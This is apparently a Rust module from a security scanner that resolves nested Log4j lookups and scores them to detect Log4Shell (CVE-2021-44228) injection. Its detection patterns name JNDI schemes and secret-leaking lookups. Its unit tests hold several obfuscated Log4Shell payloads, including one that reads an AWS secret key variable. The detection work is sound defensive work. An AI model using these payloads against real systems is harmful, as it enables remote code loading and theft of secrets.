//! Would a logger look this up?
//!
//! Lookups of Log4j, resolved as it resolves them, innermost first: `${lower:J}` is `j`, `${x:y:-n}` is `n`. What they come to
//! is what counts, and that they are nested at all: nobody hides a letter who has nothing to hide. (CVE-2021-44228.)

use super::finding::{Class, Look, Report};
use super::scan::has;
use super::text::{any, at, begins, find, from, part};

/// Longest lookup that is resolved.
const LOOKUP_BYTES_MAX: usize = 512;
/// Most lookups of a text that are resolved.
const LOOKUPS_MAX: usize = 64;

pub(super) fn look(look: &Look<'_>, report: &mut Report) {
    let text = look.text;
    if !(look.seen.bytes(has::DOLLAR) && look.seen.bytes(has::BRACE)) {
        return;
    }
    let mut next = 0;
    for _ in 0..LOOKUPS_MAX {
        let Some(open) = memchr::memmem::find(from(text, next), b"${").map(|open| open + next) else { return };
        // What stands before may belong to it: `j${sys:x:-nd}i`.
        let start = text
            .get(..open)
            .unwrap_or_default()
            .iter()
            .rev()
            .take(8)
            .take_while(|byte| byte.is_ascii_alphabetic())
            .count();
        let (plain, end, nested) = resolve(part(text, open - start, open - start + LOOKUP_BYTES_MAX));
        let span = (open, (open + end).min(text.len()));
        let plain = plain.get(..).unwrap_or_default();
        let remote = find(plain, b"jndi:").is_some();
        let schemes = any(plain, &[b"ldap:", b"ldaps:", b"rmi:", b"dns:", b"iiop:", b"corba:", b"nis:", b"nds:"]);
        let leaks = any(
            plain,
            &[b"env:aws", b"env:", b"sys:", b"java:", b"hostname", b"bundle:", b"k8s:", b"docker:", b"ctx:"],
        );
        let why = "a lookup that a logger would follow";
        match () {
            () if remote => report.add(Class::Lookup, 7, span, why),
            () if nested >= 1 && schemes => report.add(Class::Lookup, 7, span, why),
            () if nested >= 3 => {
                report.add(Class::Lookup, 5, span, "lookups inside of lookups, which hide what they say")
            }
            () if nested >= 1 && leaks => {
                report.add(Class::Lookup, 4, span, "lookups inside of lookups, which hide what they say")
            }
            () if begins(from(text, open), b"${env:")
                || begins(from(text, open), b"${sys:")
                || begins(from(text, open), b"${java:")
                || begins(from(text, open), b"${jndi") =>
            {
                report.add(Class::Lookup, 5, span, why)
            }
            () if nested >= 1 && memchr::memmem::find(part(text, open, open + end), b":-").is_some() => {
                report.add(Class::Lookup, 5, span, "lookups inside of lookups, which hide what they say")
            }
            () => {}
        }
        next = open + end.saturating_sub(start).max(2);
    }
}

/// Resolves the lookups of a text up to the end of the first outermost one. Returns what it comes to, where it ends, and how
/// many were inside of others.
fn resolve(text: &[u8]) -> (Vec<u8>, usize, usize) {
    let mut plain: Vec<u8> = Vec::with_capacity(text.len());
    // Where each open lookup begins in what is resolved so far.
    let mut open: Vec<usize> = Vec::new();
    let (mut position, mut nested, mut begun) = (0, 0, false);
    while position < text.len() {
        match (at(text, position), at(text, position + 1)) {
            (b'$', b'{') => {
                nested += usize::from(!open.is_empty());
                nested += usize::from(open.is_empty() && begun);
                open.push(plain.len());
                begun = true;
                position += 2;
            }
            (b'}', _) => {
                position += 1;
                let Some(start) = open.pop() else { break };
                // The outermost stays as it is: it is what the logger would follow.
                if !open.is_empty() || find(from(&plain, start), b"jndi").is_none_or(|at| at != 0) {
                    let value = value(from(&plain, start));
                    plain.truncate(start);
                    plain.extend(value);
                }
                if open.is_empty()
                    && !at(text, position).is_ascii_alphabetic()
                    && at(text, position) != b'$'
                    && at(text, position) != b':'
                {
                    break;
                }
            }
            (byte, _) => {
                plain.push(byte);
                position += 1;
            }
        }
    }
    (plain, position, nested)
}

/// What a lookup comes to: its default, or its argument where it changes case; otherwise itself.
fn value(lookup: &[u8]) -> Vec<u8> {
    if let Some(default) = memchr::memmem::find(lookup, b":-") {
        return from(lookup, default + 2).to_vec();
    }
    let Some(colon) = memchr::memchr(b':', lookup) else { return lookup.to_vec() };
    let (name, argument) = (part(lookup, 0, colon), from(lookup, colon + 1));
    if name.eq_ignore_ascii_case(b"lower") || name.eq_ignore_ascii_case(b"upper") {
        return argument.to_ascii_lowercase();
    }
    if name.eq_ignore_ascii_case(b"date") {
        return argument.iter().copied().filter(|byte| *byte != b'\'').collect();
    }
    lookup.to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::semantic::finding::Place;
    use crate::semantic::scan::scan;

    fn score(text: &str) -> u8 {
        let mut report = Report::default();
        let (text, seen) = (text.as_bytes(), scan(text.as_bytes()));
        look(&Look { text, seen, place: Place::Header, name: b"x" }, &mut report);
        report.score(Class::Lookup)
    }

    #[test]
    fn lookups_score_however_they_hide() {
        for text in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:${lower:l}dap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${${env:X:-j}ndi${env:X:-:}ldap://x}",
            "${jnd${upper:i}:ldap://x}",
            "j${x:y:-nd}i:${lower:l}dap://x",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
        ] {
            assert!(score(text) >= 5, "{text}: {}", score(text));
        }
    }

    #[test]
    fn placeholders_do_not() {
        for text in
            ["${name}", "${a} and ${b}", "cost: $5 {net}", "${user.name:-nobody}", "`${count} items`", "${a}${b}"]
        {
            assert!(score(text) < 5, "{text}: {}", score(text));
        }
    }
}
